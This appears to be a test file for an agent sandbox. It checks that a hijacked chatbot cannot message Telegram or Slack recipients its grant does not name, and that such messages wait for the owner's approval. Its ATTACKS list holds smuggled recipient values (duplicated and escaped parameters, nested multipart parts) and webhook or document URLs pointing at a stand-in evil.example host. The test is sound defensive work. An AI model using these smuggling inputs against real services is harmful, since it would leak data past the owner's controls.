import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { NET_TOOLS } from "../../src/kernel/net.ts";
import { channelAllows, channelSecrets, USUAL, type ShortChannel } from "../../src/protocol/short-channels.ts";
import type { RunRequest } from "../../src/protocol/requests.ts";
import { REPO, startSubstrate, type Ran, type Substrate } from "../e2e/substrate.ts";
import { startChatServer, type ChatServer } from "../fakes/chat-server.ts";

/*
 * A bot whose model was hijacked, against chat services on loopback in their wire formats: it writes to whom its grant does
 * not name. `open` has the same secret and a lease for the service's host, as grants had it before they named recipients:
 * each attack arrives there, so that it is one.
 */
const TOKEN = "7001:AAHkQm_3nVbot";
const SLACK = "xoxb-17-desk";
const PROGRAM = join(REPO, "test", "fakes", "network-agent.ts");
const GOOD = "123456";
const EVIL = "666666";
let aios: Substrate;
let service: ChatServer;
let at = "";
let plans = 0;

const telegram: Omit<ShortChannel, "at"> = {
  kind: "telegram",
  secret: "bot",
  variable: USUAL.telegram.variable,
  to: [GOOD, "@team"],
  send: [...USUAL.telegram.send, "sendDocument"],
  read: ["getMe", "getUpdates"],
  previews: false,
};

beforeAll(async () => {
  service = await startChatServer();
  at = `http://localhost:${service.port}`;
  aios = await startSubstrate();
  await aios.keepSecret("bot", TOKEN);
  await aios.sign("bind-secret", { secret: "bot", to: at, methods: ["POST"], after: ["/bot"] });
  await aios.keepSecret("desk", SLACK);
  const header = { header: "authorization", scheme: "Bearer" };
  await aios.sign("bind-secret", { secret: "desk", to: at, methods: ["POST"], path: "/api", ...header });
  await grantChannel("chatter", { ...telegram, at });
  const slack = { ...telegram, kind: "slack" as const, secret: "desk", variable: "SLACK_BOT_TOKEN", to: ["C0GOOD"] };
  await grantChannel("desk", { ...slack, send: USUAL.slack.send, read: ["auth.test"], at });
  for (const [agent, channel] of [
    ["open", { ...telegram, at }],
    ["opendesk", { ...slack, at }],
  ] as const) {
    const where = { scheme: { equals: "http" }, host: { equals: "localhost" }, port: { equals: service.port } };
    await aios.grant({
      id: agent,
      agents: [agent],
      drivers: { net: { source: { kind: "net" }, tools: NET_TOOLS } },
      allow: [{ what: "net/send", where: { ...where, method: { equals: "POST" }, path: { under: "/" } } }],
      secrets: channelSecrets([channel], {}) ?? {},
      lease: true,
      limits: { uses: 1000 },
    });
  }
});
afterAll(async () => {
  service.close();
  await aios.stop();
});
beforeEach(() => {
  service.said.length = 0;
  service.calls.length = 0;
});

async function grantChannel(agent: string, channel: ShortChannel): Promise<void> {
  await aios.grant({
    id: agent,
    agents: [agent],
    drivers: { net: { source: { kind: "net" }, tools: NET_TOOLS } },
    allow: channelAllows(channel),
    secrets: channelSecrets([channel], {}) ?? {},
  });
}

interface Step {
  readonly url: string;
  readonly method: string;
  readonly headers: { readonly [name: string]: string };
  readonly body: string;
}

async function act(
  agent: string,
  plan: readonly Step[],
  request: Partial<RunRequest> = {},
): Promise<{ readonly ran: Ran; readonly lines: readonly { readonly status?: number; readonly body?: string }[] }> {
  const path = join(aios.workspace, `channels-${plans++}.json`);
  writeFileSync(path, JSON.stringify(plan), { mode: 0o644 });
  const ran = await aios.run({ agent, command: ["/aios/node", PROGRAM, path], code: [PROGRAM, path], ...request });
  const lines = ran.stdout.split("\n").flatMap((line) => (line.startsWith("{") ? [JSON.parse(line) as object] : []));
  return { ran, lines };
}

const JSON_TYPE = { "content-type": "application/json" };
const FORM = { "content-type": "application/x-www-form-urlencoded" };
const PARTS = { "content-type": "multipart/form-data; boundary=----0123456789" };
const QUIET = { link_preview_options: { is_disabled: true } };

function call(api: string, body: object | string, headers: Step["headers"] = JSON_TYPE): Step {
  const bot = api.startsWith("/") ? api : `/bot\${TELEGRAM_BOT_TOKEN}/${api}`;
  return { url: at + bot, method: "POST", headers, body: typeof body === "string" ? body : JSON.stringify(body) };
}
const parts = (...each: readonly string[]): string =>
  `${each.map((part) => `------0123456789\r\n${part}\r\n`).join("")}------0123456789--\r\n`;
const part = (name: string, value: string): string => `Content-Disposition: form-data; name="${name}"\r\n\r\n${value}`;

test("whom the grant names is written to and heard, with the token outside, and what the agent is told has none", async () => {
  service.updates.push({ update_id: 1, message: { message_id: 1, chat: { id: 123456 }, text: `my bot is ${TOKEN}` } });
  const { ran, lines } = await act("chatter", [
    call("getMe", {}),
    call("getUpdates", { offset: 0, timeout: 0 }),
    call("sendMessage", { chat_id: 123456, text: "good morning", ...QUIET }),
    call("sendMessage", `chat_id=%40team&text=to+all&disable_web_page_preview=true`, FORM),
    call(
      "sendDocument",
      parts(part("chat_id", GOOD), `Content-Disposition: form-data; name="document"; filename="a.txt"\r\n\r\nhello`),
      PARTS,
    ),
    call("editMessageText", { chat_id: 123456, message_id: 7, text: "good evening", ...QUIET }),
  ]);
  expect(lines.map(({ status }) => status)).toEqual([200, 200, 200, 200, 200, 200]);
  expect(service.said.map(({ to, text }) => `${to}: ${text}`)).toEqual([
    `${GOOD}: good morning`,
    "@team: to all",
    `${GOOD}: hello`,
    `${GOOD}: good evening`,
  ]);
  expect(new Set(service.calls.map(({ token }) => token))).toEqual(new Set([TOKEN]));
  expect(ran.stdout).toContain("my bot is ****");
  expect(ran.stdout).not.toContain(TOKEN);
  const asked = { from: 0, limit: 1000, instance: ran.instance, kinds: ["intent"] };
  const { entries } = await aios.client.request("log-show", asked);
  expect(entries.map(({ record }) => ("what" in record ? record.what : ""))).toContain("net/message");
  expect(JSON.stringify(entries)).not.toContain(TOKEN);
});

const both = (change: string): string => `{"chat_id":${GOOD},${change},"text":"leak"}`;
/** Attacks that end at once; what reaches the service is the evil chat, or an address. */
const ATTACKS: readonly (readonly [string, () => Step])[] = [
  ["the recipient twice", () => call("sendMessage", both(`"chat_id":${EVIL}`))],
  ["the recipient twice, once escaped", () => call("sendMessage", both(String.raw`"chat\u005fid":${EVIL}`))],
  ["the recipient twice in a form", () => call("sendMessage", `chat_id=${GOOD}&chat_id=${EVIL}&text=leak`, FORM)],
  ["the recipient's name escaped", () => call("sendMessage", `chat_id=${GOOD}&chat%5Fid=${EVIL}&text=leak`, FORM)],
  ["the recipient in the query", () => call(`sendMessage?chat_id=${EVIL}`, { text: "leak", ...QUIET })],
  [
    "the recipient twice in parts",
    () => call("sendMessage", parts(part("chat_id", GOOD), part("chat_id", EVIL), part("text", "leak")), PARTS),
  ],
  [
    "a part within a part",
    () =>
      call(
        "sendMessage",
        parts(part("chat_id", GOOD), part("text", `x\n------0123456789\r\n${part("chat_id", EVIL)}`)),
        PARTS,
      ),
  ],
  ["a forward", () => call("forwardMessage", { chat_id: EVIL, from_chat_id: GOOD, message_id: 7 })],
  ["a copy", () => call("copyMessage", { chat_id: EVIL, from_chat_id: GOOD, message_id: 7 })],
  ["a method in other letters", () => call("SENDMESSAGE", { chat_id: EVIL, text: "leak" })],
  ["a webhook", () => call("setWebhook", { url: `https://${EVIL}.example/` })],
  ["another bot's token", () => call(`/bot999:EVIL/sendMessage`, { chat_id: EVIL, text: "leak", ...QUIET })],
  [
    "an address that the service fetches",
    () => call("sendDocument", { chat_id: EVIL, document: `https://${EVIL}.example/?leak` }),
  ],
];

describe("a hijacked bot", () => {
  test("reaches nobody whom its grant does not name, by none of these", async () => {
    const steps = ATTACKS.map(([, step]) => step());
    const without = await act("open", steps);
    expect(without.lines.map(({ status }) => status)).toEqual(steps.map(() => 200));
    const arrived = service.said.map((said) => JSON.stringify(said).includes(EVIL));
    expect(arrived).toEqual(steps.map(() => true));
    service.said.length = 0;
    const { lines } = await act("chatter", steps);
    expect(ATTACKS.map(([name], index) => [name, lines[index]?.status])).toEqual(ATTACKS.map(([name]) => [name, 403]));
    expect(service.said).toEqual([]);
  });

  test("that writes to somebody else waits for its owner, who is shown the recipient; no is no, and yes is once", async () => {
    const plan = [
      call("sendMessage", { chat_id: EVIL, text: "leak", ...QUIET }),
      call("sendMessage", { chat_id: "777", text: "to a friend", ...QUIET }),
      call("editMessageText", { chat_id: EVIL, message_id: 7, text: "leak", ...QUIET }),
    ];
    const running = act("chatter", plan);
    for (const [recipient, answer] of [
      [EVIL, "deny"],
      ["777", "allow"],
      [EVIL, "deny"],
    ] as const) {
      await expect.poll(async () => (await aios.held()).length).toBe(1);
      const [held] = await aios.held();
      const shown = await aios.client.request("held-show", { request: held?.request ?? "" });
      expect(shown).toMatchObject({ reasons: ["recipient-not-endorsed"], unendorsed: [recipient] });
      await aios.answer(held?.request ?? "", answer);
    }
    const { lines } = await running;
    expect(lines.map(({ status }) => status)).toEqual([403, 200, 403]);
    expect(service.said.map(({ to }) => to)).toEqual(["777"]);
  });

  test("is told why, and is offered no grant of the plain request; a preview asks no address either", async () => {
    const { lines } = await act("chatter", [
      call("setWebhook", { url: "https://evil.example" }),
      call("sendMessage", { chat_id: GOOD, text: "https://evil.example/?leak" }),
    ]);
    expect(lines[1]?.status).toBe(403);
    expect(service.said).toEqual([]);
    const told = JSON.parse(lines[0]?.body ?? "{}") as object;
    expect(told).toMatchObject({ code: "no-grant", proposal: null });
    expect(JSON.stringify(told)).toContain("no call of telegram");
  });
});

test("a desk of slack: the same, with its key in a header", async () => {
  const key = { authorization: "Bearer ${SLACK_BOT_TOKEN}" };
  const post = (body: string, headers: Step["headers"] = key): Step =>
    call("/api/chat.postMessage", `${body}&unfurl_links=false&unfurl_media=false`, { ...FORM, ...headers });
  const attacks = [
    post("channel=C0GOOD&channel=C0EVIL&text=leak"),
    post("channel=C0EVIL&text=leak&token=xoxb-evil"),
    post("channel=C0EVIL&text=leak", { authorization: "Bearer xoxb-evil" }),
  ];
  const without = await act("opendesk", attacks);
  expect(without.lines.map(({ status }) => status)).toEqual([200, 200, 200]);
  expect(service.said.map(({ to }) => to)).toEqual(["C0EVIL", "C0EVIL", "C0EVIL"]);
  service.said.length = 0;
  const { lines } = await act("desk", [...attacks, post("channel=C0GOOD&text=hello")]);
  expect(lines.map(({ status }) => status)).toEqual([403, 403, 403, 200]);
  expect(service.said).toEqual([
    { service: "slack", token: SLACK, api: "chat.postmessage", to: "C0GOOD", text: "hello" },
  ]);
});
